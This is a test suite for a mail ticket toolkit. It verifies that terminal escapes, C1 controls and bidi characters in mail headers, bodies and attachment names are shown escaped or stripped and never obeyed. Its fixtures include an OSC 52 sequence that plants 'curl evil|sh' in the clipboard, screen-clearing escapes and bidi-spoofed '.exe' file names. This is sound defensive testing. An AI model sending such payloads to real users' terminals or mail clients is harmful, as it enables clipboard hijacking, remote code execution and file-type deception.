// Mail text the maintainer's toolkit prints or drafts: terminal escapes, C1 controls and bidi
// controls from every field a command prints, column widths, and the Cc that `draft` adds.
// The commands run as the built file over tickets made by real deliveries.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { addCc, addresses, displayWidth, headerSafe, terminalJson, visible } from '../ticket.ts';
import { deliver, FAKE_SENDMAIL, tempDir } from './harness.ts';

/** A tickets folder, deliveries into it, and the toolkit's commands on it. */
function setup() {
  const dir = tempDir();
  const tickets = join(dir, 't');
  const sent = join(dir, 'sent');
  mkdirSync(sent);
  const settings = ['--dir', tickets, '--domain', 'tickets.example', '--sendmail', FAKE_SENDMAIL, '--admin', 'max@tickets.example'];
  const env = { FAKE_SENDMAIL_DIR: sent };
  const send = (recipient: string, message: string | Buffer, sender = 'eve@evil.example') => {
    const r = deliver([...settings, '--recipient', recipient, '--sender', sender], message, env);
    expect(r, r.stderr).toMatchObject({ status: 0 });
  };
  /** A command; `after` comes after the settings, so that it wins over them. */
  const cli = (args: string[], input: string | Buffer = '', extraEnv: NodeJS.ProcessEnv = {}, after: string[] = []) =>
    deliver([...args, ...settings, ...after], input, { ...env, ...extraEnv });
  return { dir, tickets, send, cli };
}

/** Anything a terminal would obey or that reorders text; a line break is the output's own. */
const RAW = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function expectShowable(text: string) {
  const raw = RAW.exec(text);
  expect(raw, raw ? `raw U+${raw[0].charCodeAt(0).toString(16)} at ${raw.index} in ${JSON.stringify(text)}` : '').toBeNull();
}

const b64 = (text: string) => Buffer.from(text).toString('base64');
const OSC52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07'; // writes "curl evil|sh" into the clipboard
const OSC52_SHOWN = '^[]52;c;Y3VybCBldmlsfHNo^G';
const HOSTILE_DATE = 'Mon, 1 Jan 2024 00:00:00 +0000 \x1b[2J\u009b1;1H\u009d0;pwned\u009c \u202Edetaler';
const HOSTILE_DATE_SHOWN = 'Mon, 1 Jan 2024 00:00:00 +0000 ^[[2J<U+009B>1;1H<U+009D>0;pwned<U+009C> <U+202E>detaler';

/** Ticket 1, three messages; every printed field hostile, in every encoding a field can come in. */
function hostileTicket() {
  const t = setup();
  // 1: From and Subject RFC 2047 (Q and B) with ESC, OSC 52 and C1; a Date with ESC; a base64 body.
  t.send('submit@tickets.example', [
    'From: =?UTF-8?Q?Eve_=1B]52;c;aGk=3D=07_=C2=9D0;x=07_Admin?= <eve@evil.example>',
    'To: submit@tickets.example',
    `Subject: =?UTF-8?B?${b64('Pay \x1b[2J now \u009b31m red')}?=`,
    `Date: ${HOSTILE_DATE}`,
    'Message-ID: <one@evil.example>',
    'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64', '',
    b64(`first ${OSC52} one\n\u009b2J second \u202Egnp.exe\n`), ''].join('\n'));
  // 2: raw ESC and raw UTF-8 C1 in From and Subject, a bidi override; a quoted-printable body.
  t.send('ticket-1@tickets.example', [
    'From: Mallory \x1b[31m\u009b32m <mallory@evil.example>',
    'To: ticket-1@tickets.example',
    `Subject: Re: \x1b]0;title\x07 \u009d52;c;eA==\u009c invoice \u202Egnp.exe`,
    'Message-ID: <two@evil.example>',
    'MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable', '',
    'qp =1B[31mred=1B[0m =C2=9B2J =E2=80=AEgnp.exe =E2=81=A6iso=E2=81=A9 del=7F', ''].join('\n'));
  // 3: HTML with entities for ESC, C1 and an override; attachments whose names hold them.
  t.send('ticket-1@tickets.example', [
    'From: Trudy <trudy@evil.example>', 'To: ticket-1@tickets.example', 'Subject: files', 'Message-ID: <three@evil.example>',
    'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"', '',
    '--b', 'Content-Type: text/html; charset=utf-8', '',
    '<p>html &#27;[2J cleared &#x9b;31m &#x202E;gnp.exe &#8238;x</p>',
    '--b', 'Content-Type: application/octet-stream', "Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe", 'Content-Transfer-Encoding: base64', '',
    b64('MZ'),
    '--b', 'Content-Type: text/plain', `Content-Disposition: attachment; filename="=?UTF-8?B?${b64('a\x1b[2Jb\u009b.txt')}?="`, '',
    'x',
    '--b--', ''].join('\n'));
  return t;
}

describe('visible()', () => {
  it('shows C0 and DEL in caret notation, C1 and bidi controls as code points, and keeps everything else', () => {
    expect(visible('a\x1b[2Jb\x00\x07\x7f')).toBe('a^[[2Jb^@^G^?');
    expect(visible('\u0080\u009b\u009d\u009f\u00a0é')).toBe('<U+0080><U+009B><U+009D><U+009F>\u00a0é');
    expect(visible('\u202agnp\u202e\u2066\u2069\u200e\u200f\u061c\u2028\u2029')).toBe(
      '<U+202A>gnp<U+202E><U+2066><U+2069><U+200E><U+200F><U+061C><U+2028><U+2029>');
    expect(visible('tab\there\r\n')).toBe('tab here^M^J');
    expect(visible('山田 Zoë 🔥 שלום')).toBe('山田 Zoë 🔥 שלום');
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => !RAW.test(visible(text)) && !visible(text).includes('\n')), { numRuns: 2000 });
  });

  it('terminalJson() escapes C1 and bidi controls and DEL, and parses back to the same value', () => {
    const value = { s: 'a\x1b\u009b\u202e\u2066\x7f\u2028\n\t"\\', n: [1, null] };
    const json = terminalJson(value);
    expect(json).toContain('\\u001b\\u009b\\u202e\\u2066\\u007f\\u2028\\n\\t');
    expectShowable(json);
    expect(JSON.parse(json)).toEqual(value);
    fc.assert(fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (v, s) => {
      const out = terminalJson({ v, s });
      return !RAW.test(out) && JSON.stringify(JSON.parse(out)) === JSON.stringify({ v, s });
    }), { numRuns: 1000 });
  });

  it('displayWidth() counts wide characters twice and combining marks not at all', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('山田太郎')).toBe(8);
    expect(displayWidth('ｱＡ')).toBe(3); // half-width katakana, fullwidth A
    expect(displayWidth('Zoe\u0308')).toBe(3);
    // Emoji sequences: a ZWJ family, a flag, a heart with its emoji presentation selector.
    expect(displayWidth('\u{1f468}\u200d\u{1f469}\u200d\u{1f467}')).toBe(2);
    expect(displayWidth('\u{1f1e9}\u{1f1ea}x')).toBe(3);
    expect(displayWidth('\u2764\ufe0f')).toBe(2);
    expect(displayWidth('🔥x')).toBe(3);
    expect(displayWidth('한국어')).toBe(6);
    expect(displayWidth('a\u200bb')).toBe(2);
  });

  it('headerSafe() drops C1 controls, line separators and bidi embeddings, overrides and isolates', () => {
    expect(headerSafe('Pay\u009b2J\u0085now \u202egnp.exe \u2066x\u2069 \u202ay\u202c')).toBe('Pay 2J now gnp.exe x y');
    expect(headerSafe('שלום\u200f!')).toBe('שלום\u200f!'); // a mark only orders the "!"
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) =>
      !/[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(headerSafe(text))), { numRuns: 2000 });
  });
});

describe('the toolkit shows mail text, never obeys it', () => {
  it('show: Date and text lines (base64, quoted-printable, HTML entities) visibly; From, Subject and file names without controls', () => {
    const t = hostileTicket();
    const r = t.cli(['show', '1']);
    expect(r).toMatchObject({ status: 0, stderr: '' });
    expectShowable(r.stdout);
    // Shown where they are promised to be shown, not dropped:
    expect(r.stdout).toContain(`, ${HOSTILE_DATE_SHOWN}\n`);
    expect(r.stdout).toContain(`   | first ${OSC52_SHOWN} one\n   | <U+009B>2J second <U+202E>gnp.exe\n`);
    expect(r.stdout).toContain('   | qp ^[[31mred^[[0m <U+009B>2J <U+202E>gnp.exe <U+2066>iso<U+2069> del^?\n');
    expect(r.stdout).toContain('   | html ^[[2J cleared <U+009B>31m <U+202E>gnp.exe <U+202E>x\n');
    // Header fields are cleaned as for the mail we send: each run of controls a space, bidi controls gone.
    expect(r.stdout).toContain('1. Pay [2J now 31m red\n   Eve ]52;c;aGk= 0;x Admin <eve@evil.example>, ');
    expect(r.stdout).toContain('2. Re: ]0;title 52;c;eA== invoice gnp.exe\n   Mallory [31m 32m <mallory@evil.example>, \n');
    expect(r.stdout).toContain('   attachments: invoicefdp.exe, a [2Jb .txt\n');
  });

  it('show --json: the text as it came, with every control and bidi character escaped', () => {
    const t = hostileTicket();
    const r = t.cli(['show', '1', '--json']);
    expect(r).toMatchObject({ status: 0, stderr: '' });
    expectShowable(r.stdout);
    expect(r.stdout).toContain('\\u001b[2J\\u009b1;1H\\u009d0;pwned\\u009c \\u202edetaler');
    const shown = JSON.parse(r.stdout);
    expect(shown.messages[0].date).toBe(HOSTILE_DATE);
    expect(shown.messages[0].text).toEqual([`first ${OSC52} one`, '\u009b2J second \u202Egnp.exe']);
    expect(shown.messages[1].text).toEqual(['qp \x1b[31mred\x1b[0m \u009b2J \u202Egnp.exe \u2066iso\u2069 del\x7f']);
    expect(shown.messages[2].text).toEqual(['html \x1b[2J cleared \u009b31m \u202Egnp.exe \u202Ex']);
    expect(shown.messages[2].attachments).toEqual(['invoicefdp.exe', 'a [2Jb .txt']);
  });

  it('list: From and Subject without controls, also from a cache written before they were cleaned', () => {
    const t = hostileTicket();
    for (const args of [['list'], ['list', '--json']]) {
      const r = t.cli(args);
      expect(r).toMatchObject({ status: 0, stderr: '' });
      expectShowable(r.stdout);
    }
    const [row] = JSON.parse(t.cli(['list', '--json']).stdout);
    expect(row).toMatchObject({ submitter: 'Eve ]52;c;aGk= 0;x Admin <eve@evil.example>', subject: 'Pay [2J now 31m red' });
    // An older version cached the submitter and subject with C1 and bidi controls in them.
    const path = join(t.tickets, '1');
    const st = statSync(path);
    const cachePath = join(t.tickets, '.ticket-mail', 'list-cache.json');
    const cache = JSON.parse(readFileSync(cachePath, 'utf8'));
    cache.entries['1'] = { ...cache.entries['1'], ino: st.ino, size: st.size, mtimeMs: st.mtimeMs,
      submitter: 'Eve \u009b2J <eve@evil.example>', subject: 'x \u202egnp.exe \u009d52;c;eA==\u009c' };
    writeFileSync(cachePath, JSON.stringify(cache));
    const human = t.cli(['list']);
    expectShowable(human.stdout);
    expect(human.stdout).toMatch(/Eve 2J <eve@evil\.example> {2}x gnp\.exe 52;c;eA==\n$/); // cleaned as it is shown, whatever the cache holds
    const json = t.cli(['list', '--json']).stdout;
    expectShowable(json);
    expect(JSON.parse(json)[0]).toMatchObject({ submitter: 'Eve 2J <eve@evil.example>', subject: 'x gnp.exe 52;c;eA==' });
  });

  it('list pads columns by the width a terminal shows: wide characters, combining marks, emoji', () => {
    const t = setup();
    const people = [ // display name, address, how many columns more (+) or fewer (-) than UTF-16 units
      ['=?UTF-8?B?5bGx55Sw5aSq6YOO?=', 'yamada@example.jp', 4], // 山田太郎
      ['=?UTF-8?Q?Zoe=CC=88?=', 'zoe@example.de', -1], // Zoe + combining diaeresis
      ['=?UTF-8?B?8J+UpSBGaXJl?=', 'fire@example.com', 0], // 🔥 (two UTF-16 units, two columns) Fire
      ['Bob', 'bob@example.com', 0],
    ] as const;
    for (const [i, [name, address]] of people.entries()) {
      t.send('submit@tickets.example', `From: ${name} <${address}>\nSubject: =?UTF-8?B?${b64(`チケット${i + 1}`)}?=\nMessage-ID: <w${i}@x>\n\nhi\n`, address);
    }
    const lines = t.cli(['list']).stdout.trimEnd().split('\n');
    const column = lines[0]!.indexOf('SUBJECT');
    for (const [i, [, address, extra]] of people.entries()) {
      const line = lines.find((l) => l.includes(address))!;
      expect(line.indexOf(`チケット${i + 1}`) + extra, line).toBe(column);
    }
  });

  it('route: the envelope sender and the addresses from mail visibly, in text and JSON', () => {
    const t = hostileTicket();
    const message = 'From: Bob <bob\u009b2j@customer.example>\nTo: submit@tickets.example\nSubject: hi\nMessage-ID: <r@x>\n\nhi\n';
    const sender = 'eve\x1b[2J\u009b31m\u202e@evil.example';
    const shown = 'eve^[[2J<U+009B>31m<U+202E>@evil.example';
    const route = (input: string | Buffer, env: NodeJS.ProcessEnv = {}, flags: string[] = []) =>
      t.cli(['route', '--recipient', 'submit@tickets.example', ...flags], input, env);
    // The sender from --sender, from $SENDER (Exim's pipe), and from an envelope From_ line,
    // which is read byte by byte (as Latin-1): a raw 0x9B byte there is CSI.
    const fromLine = Buffer.concat([Buffer.from('From eve\x1b[2J'), Buffer.from([0x9b]), Buffer.from(`31m@x.example Mon Jan  1 00:00:00 2024\n${message}`)]);
    const runs: Array<[ReturnType<typeof route>, string]> = [
      [route(message, {}, ['--sender', sender]), shown],
      [route(message, { SENDER: sender }), shown],
      [route(fromLine), 'eve^[[2J<U+009B>31m@x.example'],
    ];
    for (const [r, expected] of runs) {
      expect(r).toMatchObject({ status: 0, stderr: '' });
      expectShowable(r.stdout);
      const lines = r.stdout.split('\n');
      expect(lines.filter((l) => l.startsWith('sender ')).map((l) => l.replace(/^sender +/, ''))).toEqual([expected]);
      // An address with a control character in it is no address we write to (nor the sender's).
      expect(lines.find((l) => l.startsWith('replies'))).not.toContain('ack to');
      expect(lines.find((l) => l.startsWith('no auto-reply'))).toMatch(/no address to reply to$/);
    }
    const json = route(message, {}, ['--json', '--sender', sender]);
    expectShowable(json.stdout);
    expect(json.stdout).toContain('"sender": "eve\\u001b[2J\\u009b31m\\u202e@evil.example"');
    expect(JSON.parse(json.stdout)).toMatchObject({ sender, outcome: 'created', replies: [{ kind: 'notify' }], noAutoReplyBecause: 'no address to reply to' });
  });

  it('close, reopen, check and flush show what they quote visibly, on stdout and stderr', () => {
    const t = hostileTicket();
    const sendmail = ['--sendmail', '/nonexistent/\x1b]52;c;eA==\x07\u009b2J'];
    const shown = '/nonexistent/^[]52;c;eA==^G<U+009B>2J';
    const close = t.cli(['close', '1'], '', {}, sendmail);
    expect(close.status).toBe(0);
    expectShowable(close.stderr);
    expect(close.stderr).toContain(`kept in the outbox (${shown}: ENOENT)`);
    const reopen = t.cli(['reopen', '1'], '', {}, [...sendmail, '--admin', 'moritz@tickets.example']) // moritz hears of it;
    expect(reopen.status).toBe(0);
    expectShowable(reopen.stderr);
    expect(reopen.stderr).toContain(`(${shown}: ENOENT)`);
    const check = t.cli(['check'], '', {}, sendmail);
    expectShowable(check.stdout);
    expect(check.stdout).toContain(`FIX  sendmail ${shown} is missing`);
    const flush = t.cli(['flush'], '', {}, sendmail);
    expect(flush.status).toBe(1);
    expectShowable(flush.stdout);
    expect(flush.stdout).toMatch(new RegExp(`^sent 0, kept \\d+ \\(${shown.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: ENOENT\\)\n$`));
  });
});

describe('draft', () => {
  const OURS = 'ticket-1@tickets.example';

  it('adds the Cc to a draft whose names hold $\', $` and $& and whose body holds a "Cc:", through the built file', () => {
    const t = setup();
    const head = ['From: Support <ticket-1@tickets.example>', 'To: "Eve $\' $` $& $1" <eve@evil.example>',
      'Cc: "Carol $\'$`$& x" <carol@customer.example>,', '\t"Dave $$" <dave@customer.example>', 'Subject: Re: [issue1] $& help', 'In-Reply-To: <x@y>'];
    const body = ['', '> Cc: quoted@body.example', '> Subject: x', ''];
    const path = join(t.dir, 'draft');
    for (const eol of ['\n', '\r\n']) {
      writeFileSync(path, [...head, ...body].join(eol));
      const r = t.cli(['draft', '--cc', OURS, path], '', { EDITOR: 'true' });
      expect(r).toMatchObject({ status: 0, stderr: '' });
      const expected = [...head.slice(0, 3), `\t"Dave $$" <dave@customer.example>, ${OURS}`, ...head.slice(4), ...body].join(eol);
      expect(readFileSync(path, 'utf8')).toBe(expected);
      // Run again (mutt's editor runs once per draft, but a draft can be edited again): unchanged.
      expect(t.cli(['draft', '--cc', OURS, path], '', { EDITOR: 'true' }).status).toBe(0);
      expect(readFileSync(path, 'utf8')).toBe(expected);
    }
  });

  it('keeps every byte of a draft in another charset than UTF-8 (Latin-1), through the built file', () => {
    const t = setup();
    const path = join(t.dir, 'latin1-draft');
    const draft = Buffer.from('To: a@x.example\nSubject: Re: caf\xe9\n\n> Gr\xfc\xdfe\n', 'latin1');
    writeFileSync(path, draft);
    expect(t.cli(['draft', '--cc', OURS, path], '', { EDITOR: 'true' })).toMatchObject({ status: 0, stderr: '' });
    expect(readFileSync(path)).toEqual(Buffer.from(`To: a@x.example\nSubject: Re: caf\xe9\nCc: ${OURS}\n\n> Gr\xfc\xdfe\n`, 'latin1'));
  });

  it('handles an empty Cc, no Cc, the address in another case, a header with no body or no line end', () => {
    expect(addCc('To: a@x\nCc:\nSubject: s\n\nCc: body@x\n', OURS)).toBe(`To: a@x\nCc: ${OURS}\nSubject: s\n\nCc: body@x\n`);
    expect(addCc('To: a@x\nCc: , \n\n', OURS)).toBe(`To: a@x\nCc: ${OURS}\n\n`);
    expect(addCc('To: a@x\r\nSubject: s\r\n\r\nCc: body@x\r\n', OURS)).toBe(`To: a@x\r\nSubject: s\r\nCc: ${OURS}\r\n\r\nCc: body@x\r\n`);
    expect(addCc('To: a@x\ncc : Ticket-1@Tickets.Example\n\n', OURS)).toBe('To: a@x\ncc : Ticket-1@Tickets.Example\n\n');
    expect(addCc('Bcc: b@x\nCC: c@x\n', OURS)).toBe(`Bcc: b@x\nCC: c@x, ${OURS}\n`);
    expect(addCc('Subject: s', OURS)).toBe(`Subject: s\nCc: ${OURS}\n`);
    expect(addCc('', OURS)).toBe(`Cc: ${OURS}\n`);
    expect(addCc('\nbody\n', OURS)).toBe(`Cc: ${OURS}\n\nbody\n`);
  });

  it('property: the same draft with the Cc added, whatever its names, folding and line ends', () => {
    const special = fc.constantFrom('$\'', '$`', '$&', '$1', '$$', '$<x>', 'Cc:', ',', ' ', 'a', 'é', '山', '\t');
    const text = fc.array(special, { maxLength: 8 }).map((p) => p.join(''));
    const address = fc.constantFrom('carol@customer.example', 'CAROL@customer.example', 'dave@x.example', OURS, 'TICKET-1@tickets.example');
    const mailboxText = fc.tuple(fc.option(text.map((n) => n.replace(/\t/g, ' '))), address)
      .map(([name, a]) => (name === null ? a : `"${name}" <${a}>`));
    const draft = fc.record({
      eol: fc.constantFrom('\n', '\r\n'),
      fields: fc.array(fc.tuple(fc.constantFrom('From', 'To', 'Subject', 'Bcc', 'X-Cc', 'In-Reply-To', 'References'), text, fc.boolean()), { maxLength: 6 }),
      cc: fc.option(fc.record({
        name: fc.constantFrom('Cc', 'CC', 'cc', 'Cc '),
        list: fc.array(fc.oneof(mailboxText, fc.constant('undisclosed-recipients:;')), { maxLength: 4 }),
        folds: fc.array(fc.boolean(), { minLength: 4, maxLength: 4 }),
        tail: fc.constantFrom('', ' ', ',', ', '),
      })),
      at: fc.nat(),
      body: fc.option(fc.array(fc.oneof(text, fc.constant('Cc: body@x.example'), fc.constant('')), { maxLength: 4 })),
    }).filter((d) => !d.cc || d.cc.list.filter((m) => addresses(m).includes(OURS)).length <= 1).map((d) => {
      const line = ([name, value, folded]: [string, string, boolean]) => `${name}: ${value}${folded ? `${d.eol}\t${value}` : ''}`;
      const fields = d.fields.map(line);
      if (d.cc) {
        const value = d.cc.list.map((m, i) => (i && d.cc!.folds[i] ? `${d.eol} ${m}` : i ? ` ${m}` : m)).join(',');
        fields.splice(d.at % (fields.length + 1), 0, `${d.cc.name}: ${value}${d.cc.tail}`);
      }
      const head = fields.map((f) => f + d.eol).join('');
      return d.body === null ? head : `${head}${d.eol}${d.body.join(d.eol)}`;
    });
    /** The draft's header and body with the Cc field cut out, and the addresses that field held. */
    const split = (text: string) => {
      const lines = text.split(/(?<=\n)/);
      const others: string[] = [];
      const cc: string[] = [];
      let inCc = false;
      let inHead = true;
      for (const l of lines) {
        if (inHead && (l === '\n' || l === '\r\n')) inHead = false;
        inCc = inHead && (/^cc[ \t]*:/i.test(l) || (inCc && /^[ \t]/.test(l)));
        (inCc ? cc : others).push(l);
      }
      return { others: others.join(''), cc: addresses(cc.join('').replace(/^cc[ \t]*:/i, '').replace(/\r?\n/g, '')) };
    };
    fc.assert(fc.property(draft, (input) => {
      const output = addCc(input, OURS);
      const before = split(input);
      const after = split(output);
      expect(after.others).toBe(before.others);
      expect(after.cc).toEqual(before.cc.includes(OURS) ? before.cc : [...before.cc, OURS]);
      expect(after.cc.filter((a) => a === OURS)).toHaveLength(1);
      if (before.cc.includes(OURS)) expect(output).toBe(input);
      if (input.includes('\r\n')) expect(output.replace(/\r\n/g, '')).not.toContain('\n');
    }), { numRuns: 3000 });
  });
});
